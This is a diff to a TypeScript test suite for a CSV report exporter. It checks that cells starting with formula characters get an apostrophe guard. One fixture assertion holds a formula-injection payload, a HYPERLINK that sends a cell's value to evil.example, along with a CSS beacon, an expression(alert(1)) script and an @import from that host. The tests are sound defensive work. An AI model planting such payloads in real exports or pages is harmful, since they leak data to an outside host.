@@ -50,7 +50,7 @@ function parseCsv(text: string): string[][] {
 }
 
 /** What a reader does with a guarded cell: drop the one apostrophe the guard added. */
-const unguard = (cell: string) => (/^'[=+\-@\t\r\n]/.test(cell) ? cell.slice(1) : cell)
+const unguard = (cell: string) => (/^''*[=+\-@\t\r\n]/.test(cell) ? cell.slice(1) : cell)
 
 describe('CSV report', () => {
   test('starts with a UTF-8 BOM, ends every record with CRLF and has the documented columns', () => {
@@ -90,6 +90,8 @@ describe('CSV report', () => {
     expect(csvCell('=HYPERLINK("http://x")')).toBe('"\'=HYPERLINK(""http://x"")"')
     for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(csvCell(`${start}1+1`).startsWith(`"'`)).toBe(true)
     expect(csvCell('5,000 troops')).toBe('"5,000 troops"')
+    expect(csvCell("'=already quoted")).toBe('"\'\'=already quoted"')
+    expect(csvCell("'Tis the season")).toBe('"\'Tis the season"')
     const rows = parseCsv(renderCsv(hostileCase(), { now: FIXED_NOW }).slice(1))
     for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
     expect(rows.some((row) => row.includes(`'=HYPERLINK("https://evil.example/?leak="&A1,"Click") x{background:url(https://evil.example/beacon.png);width:expression(alert(1))} @import url(https://evil.example/x.css); cost 40 million.`))).toBe(true)
